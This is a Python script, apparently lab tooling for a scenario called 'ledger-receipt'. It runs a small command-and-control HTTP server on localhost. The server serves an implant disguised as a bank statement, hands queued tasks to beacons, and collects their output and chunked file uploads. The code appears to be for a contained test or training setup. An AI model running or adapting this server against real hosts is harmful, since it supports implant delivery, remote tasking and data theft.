#!/usr/bin/env python3
"""Lab tooling: the attacker's HTTP server of scenario-ledger-receipt (runs as
labremote on 127.0.0.1; python3 stdlib only).

GET /dl/<name> serves a file of --files (the implant, named as a bank
statement). GET /api/v2/updates?c=<beacon> answers the next task of --queue
(files whose names sort in order, each a JSON {"op", "arg"}; the driver
writes them) as JSON with the task's id, or 204 when none is queued.
POST /api/v2/telemetry?c=&t= is a task's output (logged, first 3000 bytes;
--log.count gets a line: the driver waits on it); POST
/api/v2/telemetry/blob?c=&t=&seq= is one chunk of an upload, appended to
--sink/<t>.bin. Every poll of a new beacon id, every task sent and every
output received is logged with the time. Stops by itself after --lifetime.

  ledger-c2.py --port 8447 --files DIR --queue DIR --sink DIR --log FILE [--lifetime 900]
"""
import argparse
import json
import os
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--files", required=True)
    p.add_argument("--queue", required=True)
    p.add_argument("--sink", required=True)
    p.add_argument("--log", required=True)
    p.add_argument("--lifetime", type=float, default=900)
    a = p.parse_args()
    os.makedirs(a.queue, exist_ok=True)
    os.makedirs(a.sink, exist_ok=True)
    lock = threading.Lock()
    seen = set()

    def note(s):
        with lock, open(a.log, "a") as fh:
            fh.write("%s %s\n" % (time.strftime("%H:%M:%S"), s))

    def next_task():
        with lock:
            names = sorted(n for n in os.listdir(a.queue) if not n.startswith("."))
            if not names:
                return None, None
            path = os.path.join(a.queue, names[0])
            task = json.load(open(path))
            os.rename(path, os.path.join(a.queue, "." + names[0]))
            return names[0], task

    class H(BaseHTTPRequestHandler):
        def log_message(self, fmt, *args):
            pass

        def reply(self, code, body=b"", ctype="application/octet-stream"):
            self.send_response(code)
            if body:
                self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if body:
                self.wfile.write(body)

        def do_GET(self):
            u = urllib.parse.urlsplit(self.path)
            q = dict(urllib.parse.parse_qsl(u.query))
            if u.path.startswith("/dl/"):
                f = os.path.join(a.files, os.path.basename(u.path))
                if not os.path.isfile(f):
                    return self.reply(404)
                note("download %s (%d bytes)" % (u.path, os.path.getsize(f)))
                return self.reply(200, open(f, "rb").read(), "text/csv")
            if u.path != "/api/v2/updates":
                return self.reply(404)
            c = q.get("c", "?")
            if c not in seen:
                seen.add(c)
                note("new beacon %s" % c)
                with open(a.log + ".beacons", "a") as fh:
                    fh.write(c + "\n")
            tid, task = next_task()
            if task is None:
                return self.reply(204)
            task["id"] = tid
            note("task %s -> %s: %s %s" % (tid, c, task["op"], task["arg"]))
            self.reply(200, json.dumps(task).encode(), "application/json")

        def do_POST(self):
            u = urllib.parse.urlsplit(self.path)
            q = dict(urllib.parse.parse_qsl(u.query))
            n = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(n) if n else b""
            if u.path == "/api/v2/telemetry/blob":
                with lock, open(os.path.join(a.sink, "%s.bin" % os.path.basename(q.get("t", "x"))), "ab") as fh:
                    fh.write(body)
                note("chunk %s of task %s from %s: %d bytes" % (q.get("seq"), q.get("t"), q.get("c"), len(body)))
            elif u.path == "/api/v2/telemetry":
                note("output of task %s from %s (%d bytes):\n%s" % (q.get("t"), q.get("c"), len(body),
                                                                    body.decode(errors="replace")[:3000]))
                with open(a.log + ".count", "a") as fh:
                    fh.write("x\n")
            else:
                return self.reply(404)
            self.reply(200)

    srv = ThreadingHTTPServer(("127.0.0.1", a.port), H)
    srv.daemon_threads = True
    threading.Timer(a.lifetime, srv.shutdown).start()
    srv.serve_forever()


if __name__ == "__main__":
    main()
